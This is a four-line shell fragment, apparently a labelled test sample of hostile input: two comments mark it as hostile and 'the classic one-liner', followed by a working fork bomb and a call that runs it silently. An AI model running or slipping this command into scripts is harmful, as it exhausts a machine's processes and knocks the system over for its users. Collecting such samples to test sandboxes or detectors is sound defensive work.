# hostile: exited 0
# tries: the classic one-liner as it is: the shell itself is done at once
bomb() { bomb | bomb & }
bomb 2>/dev/null
